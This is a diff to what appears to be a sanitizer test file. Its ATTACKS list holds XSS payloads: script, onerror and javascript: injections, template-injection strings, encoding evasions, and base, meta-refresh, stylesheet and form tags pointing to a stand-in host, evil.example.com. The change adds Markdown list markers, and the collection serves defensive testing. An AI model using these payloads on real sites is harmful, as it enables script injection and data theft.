@@ -38,7 +38,7 @@ ATTACKS = (
     "<base href=//evil.example.com/>", "<meta http-equiv=refresh content='0;url=//evil.example.com'>", "<link rel=stylesheet href=//evil.example.com/x.css>", "<form action=//evil.example.com><button>x",
     "<a href='javascript:alert(1)'>x</a>", '"><script>alert(1)</script>', "'-alert(1)-'", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<template><script>alert(1)</script></template>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>", r"\u003cscript\u003ealert(1)\u003c/script\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "`code` ``` fence", "# heading", "- item", "1. item", "+ item", "===", "| a | b |", "<https://evil.example.com>", "*b* _i_ ~~s~~",
+    "`code` ``` fence", "# heading", "- item", "1. item", "1)", "1.", "+ item", "===", "| a | b |", "<https://evil.example.com>", "*b* _i_ ~~s~~",
 )  # fmt: skip
 
 
